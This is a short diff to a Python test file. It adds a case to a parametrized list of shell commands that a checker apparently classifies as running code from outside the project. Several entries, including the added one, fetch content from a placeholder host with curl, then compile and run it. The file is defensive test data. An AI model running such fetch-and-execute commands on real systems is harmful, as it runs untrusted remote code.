@@ -98,6 +98,7 @@ def test_what_comes_from_the_project_is_its_code(command: str, line: str) -> Non
         "gcc -o /tmp/t /tmp/a.c && /tmp/t",
         "curl -so /tmp/t http://e.example && /tmp/t",
         "gcc -o /tmp/t a.c; cp /tmp/x /tmp/t; /tmp/t",
+        "curl -so a.c http://e.example && gcc -o /tmp/t a.c && /tmp/t",
         "java -cp /tmp Main",
     ],
 )
